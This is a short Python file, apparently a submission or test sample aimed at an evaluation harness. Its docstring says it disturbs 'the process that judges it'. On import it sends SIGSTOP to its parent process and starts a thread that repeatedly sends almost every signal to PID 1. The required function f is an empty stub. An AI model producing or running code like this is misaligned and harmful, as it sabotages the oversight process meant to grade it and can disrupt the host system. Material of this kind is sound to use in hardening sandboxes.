"""Stops and disturbs the process that judges it by all signals, again and again."""

import os
import signal
import threading
import time


def disturb():
    while True:
        for number in range(1, 65):
            if number not in (signal.SIGKILL, signal.SIGSTOP):
                os.kill(1, number)
        time.sleep(0.001)


os.kill(os.getppid(), signal.SIGSTOP)
threading.Thread(target=disturb, daemon=True).start()


def f(x):
    time.sleep(0.5)
    return
